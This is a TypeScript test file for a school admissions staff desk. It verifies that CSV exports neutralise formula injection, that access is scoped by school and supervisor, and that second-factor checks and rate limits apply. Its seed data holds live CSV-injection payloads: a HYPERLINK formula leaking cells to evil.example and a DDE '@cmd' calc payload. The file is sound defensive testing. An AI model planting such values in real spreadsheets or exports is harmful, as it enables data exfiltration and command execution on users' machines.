// The attacks on the desk's exports (docs/security.md#staff): a formula planted in a name to run in the desk's
// spreadsheet (CSV injection); an office exporting another school's applications, or a supervisor one not
// naming them; an applicant's session, or a staff session without a second factor, on either export; an
// application id guessed for the documents' archive; one staff session exporting every row without end. Each must read nothing it may not, and write nothing a
// spreadsheet would run.
import { randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Config } from '../../src/platform/config.ts';
import { requestId, serverFixture, startServer, uniqueEmail } from '../helpers.ts';
import { openPeriodsFile } from '../applications/helpers.ts';
import { csvCells, seedApplications, staffOf, type Seeded } from '../desk/helpers.ts';
import { onboardingStaff } from '../staffHelpers.ts';

const { server, register, signIn } = serverFixture({ periodsFile: openPeriodsFile() });

const CSV = '/api/staff/applications.csv';
const archive = (applicationId: string) =>
  `/api/staff/applications/${encodeURIComponent(applicationId)}/documents.zip`;

async function get(path: string, cookie: string) {
  return server.app.inject({
    method: 'GET',
    url: server.config.basePath + path,
    headers: { 'x-request-id': requestId(), cookie },
  });
}

let planted: Seeded; // teacher 103: course 3, office 3
let otherSchool: Seeded; // teacher 101: course 1, office 1

beforeAll(async () => {
  const seeded = await seedApplications(server, [
    {
      teacherId: 103,
      familyName: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      givenNames: 'X',
      nameJa: "@cmd|' /C calc'!A0",
    },
    { teacherId: 101, familyName: '-2+3', givenNames: 'Y', nameJa: '\rCR' },
    { teacherId: 103, familyName: '+SUM(1,2)', givenNames: 'Z', nameJa: '\tTAB' },
  ]);
  [planted, otherSchool] = [seeded[0]!, seeded[1]!];
});

describe('a formula planted in a name (CSV injection)', () => {
  it("is exported as text: every cell a spreadsheet would read as a formula begins with '", async () => {
    const { cookie } = await staffOf(server, 'desk');
    const response = await get(CSV, cookie);
    expect(response.statusCode).toBe(200);
    const rows = csvCells(response.body);
    const dangerous = /^[=+\-@\t\r]/;
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(dangerous);
    const text = rows.flat();
    for (const planted of [
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Open") X`,
      "'@cmd|' /C calc'!A0",
      "'-2+3 Y",
      "'\rCR",
      "'+SUM(1,2) Z",
      "'\tTAB",
    ])
      expect(text).toContain(planted);
  });
});

describe("an office's export", () => {
  it("holds its school's applications and never another school's", async () => {
    const { cookie } = await staffOf(server, 'office', '3');
    const response = await get(CSV, cookie);
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain(planted.reference!);
    expect(response.body).not.toContain(otherSchool.reference!);
  });

  it("not even when the filters name the other school's course or search its reference", async () => {
    const { cookie } = await staffOf(server, 'office', '3');
    for (const query of ['?course=1', `?q=${otherSchool.reference}`]) {
      const response = await get(CSV + query, cookie);
      expect(response.statusCode).toBe(200);
      expect(response.body).not.toContain(otherSchool.reference!);
      expect(csvCells(response.body)).toHaveLength(1); // the header row alone
    }
  });
});

describe("a supervisor's export", () => {
  it('holds only the applications naming them', async () => {
    const { cookie } = await staffOf(server, 'supervisor', '101');
    const response = await get(CSV, cookie);
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain(otherSchool.reference!);
    expect(response.body).not.toContain(planted.reference!);
  });
});

describe("an applicant's session on the exports", () => {
  it('reads nothing: 401, as without a cookie, and no audit line names the application', async () => {
    const email = uniqueEmail('applicant');
    await register(email);
    const cookie = await signIn(email);
    const list = await get(CSV, cookie);
    expect(list.statusCode).toBe(401);
    expect(list.body).not.toContain(planted.reference!);
    const zip = await get(archive(planted.id), cookie);
    expect(zip.statusCode).toBe(401);
    expect(server.logs.text).not.toMatch(new RegExp(`staff.document.read.*${planted.id}`));
  });
});

describe('a staff session without a second factor', () => {
  it('exports nothing: 403 second_factor_required, even for the desk', async () => {
    const { cookie } = await onboardingStaff(server, 'desk');
    for (const path of [CSV, archive(planted.id)]) {
      const response = await get(path, cookie);
      expect(response.statusCode).toBe(403);
      expect(response.json()).toMatchObject({ code: 'second_factor_required' });
    }
  });
});

describe("the documents' archive", () => {
  const unknown = { type: 'urn:pre-admission:problem:not-found', code: 'application_not_found' };

  it('of a guessed id is not found', async () => {
    const { cookie } = await staffOf(server, 'desk');
    const response = await get(archive(randomBytes(16).toString('base64url')), cookie);
    expect(response.statusCode).toBe(404);
    expect(response.json()).toMatchObject(unknown);
  });

  it("of another school's application, or one not naming the supervisor, is not found as an unknown id", async () => {
    const office = await staffOf(server, 'office', '3');
    const supervisor = await staffOf(server, 'supervisor', '102');
    for (const [cookie, application] of [
      [office.cookie, otherSchool],
      [supervisor.cookie, planted],
    ] as const) {
      const response = await get(archive(application.id), cookie);
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject(unknown);
    }
  });
});

describe('one staff session exporting without end', () => {
  it('each export takes a slot of the desk writes limit: 429 with Retry-After once spent, the file not sent', async () => {
    const limits: Config['limits'] = {
      ...server.config.limits,
      deskWritesPerAccount: { max: 2, windowMs: 60_000 },
    };
    const limited = await startServer({ periodsFile: openPeriodsFile(), limits }, server);
    try {
      const { cookie } = await staffOf(limited, 'desk');
      const exported = () =>
        limited.app.inject({
          method: 'GET',
          url: `${limited.config.basePath}${CSV}`,
          headers: { 'x-request-id': requestId(), cookie },
        });
      expect((await exported()).statusCode).toBe(200);
      expect((await exported()).statusCode).toBe(200);
      const refused = await exported();
      expect(refused.statusCode).toBe(429);
      expect(refused.headers['retry-after']).toMatch(/^[1-9][0-9]*$/);
      expect(refused.headers['content-type']).toMatch(/^application\/problem\+json/);
    } finally {
      await limited.close();
    }
  });
});
